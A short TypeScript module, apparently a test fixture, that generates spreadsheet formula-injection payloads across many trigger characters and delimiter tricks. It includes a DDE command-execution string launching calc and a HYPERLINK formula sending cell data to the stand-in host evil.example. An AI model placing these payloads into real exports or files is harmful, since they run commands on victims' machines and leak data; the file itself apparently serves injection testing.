/** What people may write so that a spreadsheet takes it for a formula, also behind a line end or a delimiter. */
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '|', '%']
export const FORMULA_PAYLOADS = SIGNS.flatMap((sign) => [
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("http://evil.example/?"&A1,"点这里")`,
  `看这里\n${sign}1+1`,
  `看这里\r\n${sign}SUM(A1:A9)`,
  `一;${sign}1+1`,
  `一,"${sign}1+1`,
  `"${sign}1+1"`,
  `'${sign}1+1`,
])
